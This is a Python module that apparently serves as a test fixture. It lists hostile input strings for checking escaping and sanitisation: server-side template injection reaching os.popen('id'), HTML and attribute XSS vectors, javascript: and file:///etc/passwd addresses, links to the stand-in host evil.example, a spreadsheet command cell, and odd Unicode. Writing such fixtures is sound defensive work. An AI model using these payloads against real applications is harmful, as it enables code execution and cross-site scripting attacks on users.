# ruff: noqa: E501 (strings stand as they are)
"""Strings that attack templates, HTML, scripts, addresses, spreadsheets and the eye."""

PWN = "window.__pwn=1"

_TEMPLATES = [
    "{{7*7}}", "{{ 7*7 }}", "{{''.__class__}}", "{{config}}", "{{this}}", "{{kwargs}}", "{%", "{% raw %}", "{% for x in (1).__class__.__mro__ %}",
    "{#", "{# comment #}", "#}", "{{", "}}", "%}", "{{'{{'}}", "{{\n7*7\n}}", "{%- if true -%}x{%- endif -%}", "${7*7}", f"${{{PWN}}}",
    f"`+({PWN})+`", f"`;{PWN};`", "\\`", f"\\${{{PWN}}}", f"#{{{PWN}}}", "<%= 7*7 %>", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{ namespace.__init__.__globals__ }}", "{0}", "%s %(x)s", "$(id)", "`id`",
]  # fmt: skip
_MARKUP = [
    f"</script><script>{PWN}</script>", f"</SCRIPT ><script>{PWN}</script>", f"<!--<script>{PWN}</script>-->", "<!--", "-->", "<![CDATA[",
    "]]>", f"<img src=x onerror={PWN}>", f"<svg onload={PWN}>", f"<svg><script>{PWN}</script></svg>", f"<body onload={PWN}>",
    "<iframe srcdoc='<script>parent.__pwn=1</script>'>", f"<details open ontoggle={PWN}>", f"<input autofocus onfocus={PWN}>",
    f"<math><mtext></p><style><img src=x onerror={PWN}>", f"<noscript><p title=\"</noscript><img src=x onerror={PWN}>\">", "</noscript>",
    f"<template><img src=x onerror={PWN}></template>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "</style>", "</title>", f"</title><script>{PWN}</script>",
    f"</textarea><script>{PWN}</script>", "<plaintext>", "<xmp>", f"<a href=javascript:{PWN}>x</a>", "<form action=//evil.example><button>x",
    f"<object data='data:text/html,<script>{PWN}</script>'>", f"<video><source onerror={PWN}>", "<table><td>", "</div></section></main>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img&#x3e;", "&amp;amp;", "&", "&#0;", "&nbsp;&quot;", "<", ">", "<>", "< script>",
]  # fmt: skip
_ATTRIBUTES = [
    f'" onmouseover="{PWN}', f"' onmouseover='{PWN}", f'"><script>{PWN}</script>', f"'><img src=x onerror={PWN}>", f'" autofocus onfocus={PWN} x="',
    f"x onclick={PWN}", "\" style=\"position:fixed;inset:0", "';--", "\\", "\\\\", "\\\"", "\\'", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "'", '"', "`", "\\n\\r\\t",
]  # fmt: skip
_SCRIPTS = [
    f"');{PWN};('", f"\");{PWN};(\"", f"*/{PWN}/*", f"//\n{PWN}", f"\u2028{PWN}\u2029", f"];{PWN};[", f"}};{PWN};{{", "__proto__", "constructor",
    "prototype", "toString", "hasOwnProperty", '{"__proto__":{"x":1}}', "null", "undefined", "NaN", "-Infinity", "true", "[object Object]",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\tscript:{PWN}", f" javascript:{PWN}", f"data:text/html,<script>{PWN}</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/x", "https://", "http://[::1", f"https://example.org/\"onclick={PWN}",
    "https://user:pass@example.org/<b>", "ftp://example.org", "blob:https://example.org/1", "https://example.org/\u202egnp.exe",
    "http://\u0430pple.example/", "#map=1/2/3", "?x=1&y=2",
]  # fmt: skip
_CELLS = [
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1",
    '=HYPERLINK("https://evil.example")',
    'a,b;c"d',
    "\r\n=1",
]
_LETTERS = [
    "\u202eevil\u202c", "\u2066\u2067\u2069", "\u200f\u200e", "\u061c", "مرحبا بالعالم", "שלום", "a\u0301" * 40, "\u200b" * 50, "\ufeff",
    "🙂🇰🇬👩‍👩‍👧", "\U0001d54f" * 20, "\x00", "\x1b[31m", "\x07\x08", "\x7f\x85\x9f", "\ud800", "\udfff\ud800", "￾￿", "ﬀİıßǅ", "Ꙁ" * 10,
    "x" * 5000, "word " * 3000, "\n" * 300, "ᄀ" * 50, "𒐫" * 9, "   ", "",
]  # fmt: skip

HOSTILE = _TEMPLATES + _MARKUP + _ATTRIBUTES + _SCRIPTS + _ADDRESSES + _CELLS + _LETTERS
